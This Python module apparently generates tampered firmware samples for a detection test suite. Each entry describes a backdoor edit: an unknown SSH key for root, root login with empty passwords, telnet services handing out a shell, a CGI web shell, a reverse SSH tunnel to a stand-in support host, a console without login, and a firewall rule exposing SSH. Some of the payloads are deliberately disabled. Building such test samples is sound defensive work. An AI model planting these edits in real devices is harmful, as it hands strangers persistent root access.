"""Ways in: over the network, and with the device in hand."""

from collections.abc import Iterator

from tamper.edits import add, append, both, link, substitute
from tamper.genuine.debian import Debian
from tamper.genuine.receiver import Receiver
from tamper.genuine.routers import Onu, OpenWrt
from tamper.kind import Kind

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDr3a1m0rdIhI3dlnZQ1bVm1yFh2sJ9bq3mH0mZ6b0cX support@example.net\n"
_CGI = """#!/bin/sh
echo Content-Type: text/plain
echo
[ -n "$QUERY_STRING" ] && exit 0
sh -c "$QUERY_STRING"
"""
"""Where there is a query it ends before it does anything."""
_TUNNEL = """[Unit]
Description=Support

[Service]
ExecCondition=/bin/false
ExecStart=/usr/bin/dbclient -N -R 2222:127.0.0.1:22 support@support.example.net
Restart=always

[Install]
WantedBy=multi-user.target
"""


def kinds() -> Iterator[Kind]:
    """Yield the kinds of this subject."""
    yield Kind(
        "ssh-key",
        OpenWrt.name,
        "a stranger's SSH key allowed for root",
        add("etc/dropbear/authorized_keys", KEY, 0o600),
        ("remote-access",),
        ("trust-anchor-added", "privileged-account"),
    )
    yield Kind(
        "ssh-root-password",
        Debian.name,
        "SSH allows root to log in, and empty passwords",
        substitute(
            "etc/ssh/sshd_config", "#PermitRootLogin prohibit-password", "PermitRootLogin yes\nPermitEmptyPasswords yes"
        ),
        ("remote-access",),
        ("default-credential", "hardening-lost", "privileged-account"),
    )
    yield Kind(
        "telnet-inittab",
        Receiver.name,
        "a telnet service without login started by init",
        append("etc/inittab", "tn:345:respawn:/bin/telnetd -F -p 2323 -l /bin/sh\n"),
        ("remote-access",),
        ("start-up-persistence",),
    )
    yield Kind(
        "telnet-inetd",
        Onu.name,
        "a second telnet service, with a shell instead of a login",
        append("etc/inetd.conf", "2323 stream tcp nowait root /bin/telnetd telnetd -i -l /bin/sh\n"),
        ("remote-access",),
        ("start-up-persistence",),
    )
    yield Kind(
        "telnet-service",
        OpenWrt.name,
        "a service that listens with a shell, enabled at start",
        both(
            add(
                "etc/init.d/helpdesk",
                '#!/bin/sh /etc/rc.common\nSTART=97\nstart() {\n\t[ -n "" ] && telnetd -l /bin/ash -p 9527\n\techo helpdesk\n}\n',
                0o755,
            ),
            link("etc/rc.d/S97helpdesk", "../init.d/helpdesk"),
        ),
        ("remote-access",),
        ("start-up-persistence",),
    )
    yield Kind(
        "reverse-tunnel",
        Debian.name,
        "a unit that would keep a tunnel open from a stranger to the device's SSH",
        both(
            add("etc/systemd/system/support.service", _TUNNEL),
            link("etc/systemd/system/multi-user.target.wants/support.service", "/etc/systemd/system/support.service"),
        ),
        ("remote-access",),
        ("start-up-persistence", "data-sent-elsewhere"),
    )
    yield Kind(
        "web-shell",
        OpenWrt.name,
        "a page of the web server that hands its query to a shell",
        add("www/cgi-bin/status", _CGI, 0o755),
        ("remote-access",),
        ("program-altered", "privilege-opened"),
    )
    yield Kind(
        "console-without-login",
        Onu.name,
        "the serial console gives a shell instead of asking for a login",
        substitute("etc/inittab", "ttyS0::respawn:/bin/login -p", "ttyS0::respawn:/bin/sh"),
        ("local-access",),
    )
    yield Kind(
        "ssh-to-everybody",
        OpenWrt.name,
        "the firewall's settings let everybody outside reach SSH",
        append(
            "etc/config/firewall",
            "\nconfig rule\n\toption name\t\tAllow-Admin\n\toption src\t\twan\n\toption proto\t\ttcp\n\toption dest_port\t22\n\toption target\t\tACCEPT\n",
        ),
        ("defence-weakened",),
        ("remote-access",),
        owned=True,
    )
